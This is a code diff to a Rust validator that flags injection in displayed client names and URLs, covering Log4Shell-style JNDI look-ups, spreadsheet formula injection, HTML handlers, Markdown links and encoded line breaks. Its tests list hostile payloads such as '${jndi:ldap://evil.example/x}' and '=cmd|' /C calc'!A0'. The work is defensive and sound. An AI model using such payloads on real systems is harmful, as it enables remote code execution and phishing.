@@ -2,7 +2,7 @@
 //! attribute with a handler behind it, a URL that runs.
 
 /// Characters by their names in HTML that begin or end something there, or hide in it. Not `amp`: `R&amp;D` was escaped once too often.
-const REFERENCES: [&str; 21] = [
+const REFERENCES: [&str; 23] = [
     "lt",
     "gt",
     "quot",
@@ -24,6 +24,8 @@ const REFERENCES: [&str; 21] = [
     "zerowidthspace",
     "zwj",
     "zwnj",
+    "lrm",
+    "rlm",
 ];
 
 /// The most letters of such a name.
@@ -48,18 +50,24 @@ const DOCUMENTS: [&str; 5] =
 /// What other programs put something else in the place of: Keycloak's consent page `${client_account}`, loggers `${jndi:…}`, templates `{{7*7}}`.
 const PLACEHOLDERS: [&str; 3] = ["${", "#{", "{{"];
 
+/// Whether a text that is shown under the server's name would be replaced by another.
+pub(super) fn holds_a_placeholder(text: &str) -> bool {
+    PLACEHOLDERS.iter().any(|begin| text.contains(begin))
+}
+
 /// What of the text a page would not show as text: the end of a sentence that begins with the text.
 pub(super) fn problem(text: &str) -> Option<&'static str> {
     if holds_a_handler(text) {
         return Some("holds markup (an attribute behind a quote)");
     }
-    if PLACEHOLDERS.iter().any(|begin| text.contains(begin)) {
-        return Some("holds a placeholder (${…}, #{…}, {{…}})");
+    // `${version}` is a slip of whoever built the client.
+    if text.split("${").skip(1).any(|inside| inside.split('}').next().is_some_and(|inside| inside.contains(':'))) {
+        return Some("holds a look-up (${…:…})");
     }
     if begins_a_formula(text) {
         return Some("begins as a formula of a spreadsheet");
     }
-    if text.contains("](http") {
+    if text.contains("](") && ["](http", "](//"].iter().any(|link| text.to_ascii_lowercase().contains(link)) {
         return Some("holds markup (a link of Markdown)");
     }
     for (at, character) in text.char_indices() {
@@ -82,8 +90,11 @@ pub(super) fn problem(text: &str) -> Option<&'static str> {
 
 /// What of a page's URL would end the attribute it stands in, or begin a tag.
 pub(super) fn problem_of_url(url: &str) -> Option<&'static str> {
-    let tag = || url.match_indices('%').find_map(|(at, _)| encoded(&url[at + 1..]));
-    holds_a_handler(url).then_some("holds markup (an attribute behind a quote)").or_else(tag)
+    let small = url.to_ascii_lowercase();
+    if holds_a_handler(&small.replace("%22", "\"").replace("%27", "'")) {
+        return Some("holds markup (an attribute behind a quote)");
+    }
+    small.split("%3c").skip(1).any(begins_with_a_tags_name).then_some("holds markup (%3C)")
 }
 
 /// What follows `%`, when it is a line break, or begins a tag.
@@ -91,14 +102,17 @@ fn encoded(rest: &str) -> Option<&'static str> {
     let code = rest.get(..2)?.to_ascii_lowercase();
     match code.as_str() {
         "3c" if begins_a_tag(&rest[2..]) => Some("holds markup (%3C)"),
-        "0a" | "0d" => Some("holds a line break (%0A)"),
+        "0d" if rest.get(2..5).is_some_and(|next| next.eq_ignore_ascii_case("%0a")) => {
+            Some("holds a line break (%0D%0A)")
+        }
         _ => None,
     }
 }
 
 /// Whether a spreadsheet that opens a list of names would compute it: `=HYPERLINK(…)`, `+cmd|…`.
 fn begins_a_formula(text: &str) -> bool {
-    let calls = text.starts_with('=') && text.contains(['(', '!']);
+    let calls = text.strip_prefix('=').is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_alphanumeric()))
+        && text.contains(['(', '!', '|']);
     let program = text.split_once('|').map(|(program, _)| program);
     calls || (text.starts_with(['=', '+', '-', '@']) && program.is_some_and(|it| !it.contains(char::is_whitespace)))
 }
@@ -132,7 +146,7 @@ fn begins_with_a_tags_name(text: &str) -> bool {
 }
 
 /// Whether an attribute that runs something stands behind a quote, at once or behind other attributes: `' onload=x`.
-pub(super) fn holds_a_handler(text: &str) -> bool {
+fn holds_a_handler(text: &str) -> bool {
     let is_quote = |character: char| matches!(character, '"' | '\'' | '`');
     let parts = |character: char| character.is_whitespace() || character == '/';
     let mut quotes = text.match_indices(is_quote).peekable();
@@ -207,6 +221,9 @@ mod tests {
             "@alice:matrix.org | Support",
             "@acme/client (beta)",
             "C# {beta}",
+            "=^.^= Cat!",
+            "${project.version}",
+            "0%0APR",
             "= Orders",
             "100% organic",
             "[beta] Orders (https://orders.example)",
@@ -257,9 +274,10 @@ mod tests {
             "x (DATA:text/html;base64,PHNjcmlwdD4=)",
             "&ltscript>",
             "<%= x %>",
-            "${client_account}",
+            "[x](HTTP://evil.example)",
+            "[x](//evil.example)",
+            "a&rlm;b",
             "${jndi:ldap://evil.example/x}",
-            "{{7*7}}",
             "=HYPERLINK(\"https://evil.example\")",
             "=cmd|' /C calc'!A0",
             "+cmd|x",
